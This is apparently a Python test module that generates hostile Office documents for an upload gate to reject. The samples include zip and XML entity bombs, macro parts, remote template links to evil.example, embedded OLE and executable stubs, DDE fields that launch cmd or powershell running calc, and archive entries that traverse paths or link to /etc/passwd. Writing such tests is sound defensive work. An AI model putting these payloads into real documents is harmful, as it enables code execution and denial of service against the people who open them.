"""Hostile archives: bombs, macros, links out, things embedded, entries that climb out."""

import struct
from random import Random

from tests.gate import office, raw
from tests.gate.benign import DOCX, XLSX, File

_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _word(body: bytes) -> File:
    return File(body=body, name="a.docx", content_type=DOCX)


def _sheet(body: bytes) -> File:
    return File(body=body, name="a.xlsx", content_type=XLSX)


def with_gap(parts: dict[str, bytes], hidden: bytes) -> bytes:
    """A second file between the last entry and the directory."""
    body = raw.archive(parts)
    at = body.index(b"PK\x01\x02")
    return body[:at] + hidden + body[at:-6] + struct.pack("<I", at + len(hidden)) + body[-2:]


def nested(rng: Random) -> File:
    inner = raw.archive({f"{number}.txt": bytes(rng.randint(100_000, 900_000)) for number in range(2)})
    for _ in range(rng.randint(1, 4)):
        inner = raw.archive({f"{number}.zip": inner for number in range(rng.randint(1, 5))}, stored=rng.random() < 0.5)
    if rng.random() < 0.5:
        return _word(inner)
    return _word(raw.archive({**office.word_parts(), f"word/embeddings/{rng.choice(('a.zip', 'a.xlsx', 'a.docx'))}": inner}))


def flat(rng: Random) -> File:
    zeros = bytes(rng.randint(1, 6) << 20)
    where = rng.choice(("word/document2.xml", "word/media/a.dat", "customXml/item1.xml", "word/media/image1.png"))
    lying = raw.archive({**office.word_parts(), where: zeros})
    if rng.random() < 0.3:  # says that it is small
        lying = lying.replace(struct.pack("<I", len(zeros)), struct.pack("<I", 10))
    return _word(lying)


def shared_strings(rng: Random) -> File:
    strings = b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>" + b"<si><t>a</t></si>" * rng.randint(60_000, 200_000) + b"</sst>"
    if rng.random() < 0.4:
        entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
        strings = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "ha">{entities}]><sst>&l8;</sst>'.encode()
    return _sheet(raw.archive({**office.sheet_parts(), "xl/sharedStrings.xml": strings}))


def renamed_macros(rng: Random) -> File:
    if rng.random() < 0.5:
        return _word(raw.archive({**office.word_parts(main=_MACRO_WORD), "word/vbaProject.bin": _OLE}))
    return _sheet(raw.archive({**office.sheet_parts(main=_MACRO_SHEET), rng.choice(("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml")): b"<a/>"}))


def macros(rng: Random) -> File:
    where = rng.choice(("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/a.bin"))
    linked = office.word_parts("a", "", ("vbaProject", "a.xml", False), more='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>')
    return _word(rng.choice((raw.archive({**office.word_parts(), where: rng.choice((_OLE, b"<a/>"))}), raw.archive({**linked, "word/a.xml": b"<a/>"}))))


def external(rng: Random) -> File:
    target = rng.choice(("https://evil.example/t.dotm", "file://evil.example/s/t.dotm", "\\\\evil.example\\t.dotm"))
    match rng.randrange(4):
        case 0:
            parts = {**office.word_parts(), "word/settings.xml": b"<settings/>", "word/_rels/settings.xml.rels": office.rels(("attachedTemplate", target, True))}
        case 1:
            parts = office.word_parts("a", "", (rng.choice(("image", "frame", "subDocument", "oleObject")), target, True))
        case 2:
            return _sheet(raw.archive({**office.sheet_parts(), "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}))
        case _:
            return _sheet(raw.archive({**office.sheet_parts(), "xl/connections.xml": b"<connections/>"}))
    return _word(raw.archive(parts))


def ole(rng: Random) -> File:
    match rng.randrange(4):
        case 0:
            return _word(raw.archive({**office.word_parts(), "word/embeddings/oleObject1.bin": _OLE}))
        case 1:
            return _word(raw.archive({**office.word_parts(), f"word/media/image{rng.randint(1, 9)}.emf": _OLE}))
        case 2:
            return _word(office.word("a", '<w:p><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object></w:p>'))
    return _sheet(raw.archive({**office.sheet_parts(), "xl/embeddings/Package1.exe": b"MZ" + rng.randbytes(90)}))


def dde(rng: Random) -> File:
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    match rng.randrange(4):
        case 0:
            return _word(office.word("a", "<w:p>" + run.format(" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; ") + "</w:p>"))
        case 1:
            return _word(office.word("a", f"<w:p>{run.format('DD')}{run.format('EAUTO cmd')}</w:p>"))
        case 2:
            return _word(office.word("a", '<w:p><w:fldSimple w:instr=" DDE cmd /k "/></w:p>'))
    return _sheet(office.sheet(f"<row r='1'><c r='A1'><f>{rng.choice(('cmd', 'MSEXCEL', 'powershell'))}|' /C calc'!A0</f></c></row>"))


def slip(rng: Random) -> File:
    if rng.random() < 0.4:
        parts = list(office.word_parts().items())
        body = raw.archive([*parts, ("word/link", b"/etc/passwd")], mode=rng.choice((0o120777, 0o120644)))
        return _word(body)
    name = rng.choice(("../../x.xml", "word/../../x.xml", "/etc/x.xml", "..\\x.xml", "C:/x.xml", "word/a\0.xml", "WORD/document.xml"))
    return _word(raw.archive([*office.word_parts().items(), (name, b"<a/>")]))


def crowd(rng: Random) -> File:
    return _word(raw.archive({**office.word_parts(), **{f"word/{number}.xml": b"<a/>" for number in range(rng.randint(10_001, 12_000))}}, stored=True))


